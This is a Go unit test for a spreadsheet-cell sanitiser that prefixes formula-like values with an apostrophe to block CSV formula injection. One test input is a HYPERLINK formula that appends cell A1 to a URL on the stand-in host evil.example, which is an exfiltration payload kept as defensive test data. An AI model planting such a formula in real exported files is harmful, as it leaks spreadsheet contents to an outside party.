package portal

import "testing"

func TestSpreadsheetCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Maija Virtanen", "Maija Virtanen"},
		{"=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Klikkaa\")", "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Klikkaa\")"},
		{"+358 40 123 4567", "'+358 40 123 4567"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-1250", "-1250"},
		{"+5", "+5"},
		{"-12.05", "-12.05"},
		{"-.5", "'-.5"},
		{"-1.2.3", "'-1.2.3"},
		{"-1.", "'-1."},
		{"-", "'-"},
		{"Hämeenkatu 1 = koti", "Hämeenkatu 1 = koti"},
		{"131052-308T", "131052-308T"},
	}
	for _, tt := range tests {
		if got := SpreadsheetCell(tt.in); got != tt.want {
			t.Errorf("SpreadsheetCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
